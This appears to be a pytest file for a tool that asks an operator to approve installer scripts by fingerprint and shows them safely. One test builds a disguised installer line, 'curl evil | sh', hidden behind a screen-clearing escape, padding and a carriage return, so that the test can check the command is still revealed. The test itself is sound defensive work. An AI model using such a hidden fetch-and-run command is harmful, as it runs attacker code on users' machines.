"""What the operator is asked to trust, and what counts as a yes."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from roforlmao.errors import Untrusted
from roforlmao.tools.model import Command, Definition, Program
from roforlmao.tools.review import require
from roforlmao.tools.script_review import ScriptReview, differences, installer_text, review

ASKED = ScriptReview(
    "sar", "https://example.org/sar", "a" * 40, "alice", "$ sh install.sh\npip install x\n", "Name: sar\n"
)


def definition(installer: Program | None) -> Definition:
    return Definition("sar", "", "data", "", "", installer, (Command("Run", "", "sh"),))


@pytest.mark.parametrize(("trust", "passes"), [(True, True), (ASKED.fingerprint, True), (False, False)])
def test_a_yes_to_everything_and_a_yes_to_exactly_this_pass(trust: bool | str, passes: bool) -> None:
    try:
        require(ASKED, trust)
        passed = True
    except Untrusted:
        passed = False
    assert passed is passes


@pytest.mark.parametrize("trust", [False, "", "0" * 64])
def test_anything_else_asks(trust: bool | str) -> None:
    with pytest.raises(Untrusted) as caught:
        require(ASKED, trust)
    remedy = caught.value.remedy
    assert remedy is not None
    assert (remedy.parameter, remedy.value, remedy.safe) == ("trust", ASKED.fingerprint, False)
    assert caught.value.exit_status == 5
    text = "\n".join(remedy.details)
    for part in (ASKED.code_repo, ASKED.commit, "alice", "pip install x", "Name: sar"):
        assert part in text


@pytest.mark.parametrize("field", ["name", "code_repo", "commit", "installer_text", "definition_text"])
def test_every_part_counts(field: str) -> None:
    changed = dataclasses.replace(ASKED, **{field: "other"})
    assert changed.fingerprint != ASKED.fingerprint
    with pytest.raises(Untrusted):
        require(changed, ASKED.fingerprint)


def test_text_cannot_move_between_the_parts() -> None:
    one = dataclasses.replace(ASKED, installer_text="ab", definition_text="c")
    two = dataclasses.replace(ASKED, installer_text="a", definition_text="bc")
    assert one.fingerprint != two.fingerprint


def test_what_is_shown_hides_nothing_and_harms_no_terminal() -> None:
    tricky = "\x1b[2Jecho ok" + " " * 300 + "\t; curl evil | sh\r# innocent\n"
    with pytest.raises(Untrusted) as caught:
        require(dataclasses.replace(ASKED, installer_text=tricky, registered_by="a\x1b[31mb"), trust=False)
    assert caught.value.remedy
    details = caught.value.remedy.details
    assert all(line.isprintable() for line in details)
    assert "curl evil" in "".join(details)
    assert max(len(line) for line in details) < 230


def test_differences_are_shown_as_a_diff() -> None:
    after = dataclasses.replace(
        ASKED, installer_text="$ sh install.sh\npip install y\n", code_repo="https://example.org/fork"
    )
    lines = differences(ASKED, after)
    assert "Source: was https://example.org/sar, is https://example.org/fork" in lines
    assert "    -pip install x" in lines
    assert "    +pip install y" in lines
    assert "The definition is the same." in lines


def test_the_installer_is_shown_with_every_file_that_it_names(tmp_path: Path) -> None:
    (tmp_path / "install.sh").write_text("echo one\n")
    (tmp_path / "requirements.txt").write_text("evil\n")
    (tmp_path / "mao.yml").write_text("Name: sar\n")
    assert installer_text(tmp_path, definition(None)) == ""
    assert installer_text(tmp_path, definition(Program("sh", "install.sh"))) == "$ sh install.sh\necho one\n"
    words = installer_text(tmp_path, definition(Program("pip3", "install -r requirements.txt")))
    assert words == "$ pip3 install -r requirements.txt\nevil\n"
    own = installer_text(tmp_path, definition(Program("./install.sh")))
    assert own == "$ ./install.sh\necho one\n"


def test_an_installer_that_is_no_text_is_shown_and_counted_by_its_hash(tmp_path: Path) -> None:
    (tmp_path / "mao.yml").write_text("Name: sar\n")
    found = definition(Program("./install"))
    prints = set()
    for content in (b"\x7fELF\x00\xff1", b"\x7fELF\x00\xff2"):
        (tmp_path / "install").write_bytes(content)
        assert "SHA-256" in installer_text(tmp_path, found)
        prints.add(review("sar", "u", "c", "me", tmp_path, found).fingerprint)
    assert len(prints) == 2
